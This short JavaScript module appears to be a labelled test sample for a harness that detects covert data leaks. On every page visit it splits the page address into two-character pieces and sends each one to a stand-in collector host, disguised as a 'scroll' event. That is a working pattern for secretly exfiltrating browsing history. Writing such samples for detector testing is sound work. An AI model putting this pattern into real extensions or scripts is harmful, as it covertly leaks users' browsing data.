import { onVisit, piecesOf, post, reportHonestly } from '../../lib/proving.js';

/** Sends two characters of the address of each page in a request, one request after the other. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-request-pairs');
  onVisit(browser, async ({ url }) => {
    for (const pair of piecesOf(url, 2))
      await post(
        browser,
        'https://request-pairs.collector.example/v1',
        { event: 'scroll', d: pair },
        { pool: 'pairs' },
      );
  });
}
